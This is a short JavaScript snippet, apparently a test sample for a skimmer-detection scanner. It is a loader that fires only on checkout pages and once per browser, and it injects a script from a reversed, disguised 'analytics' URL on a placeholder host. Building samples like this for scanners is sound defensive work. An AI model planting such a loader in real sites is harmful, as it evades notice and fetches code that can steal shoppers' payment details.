// Written for shieldscan's corpus: a loader that only acts on checkout pages
// and only once per browser.
(function (w, d) {
  if (w.location.href.indexOf("checkout") < 0 || w.localStorage.getItem("_sx1")) return;
  w.localStorage.setItem("_sx1", "1");
  var s = d.createElement("script");
  s.async = true;
  s.src = "sj.2v/bil/elpmaxe.sj-citylana-ndc//:sptth".split("").reverse().join("");
  d.getElementsByTagName("head")[0].appendChild(s);
})(window, document);
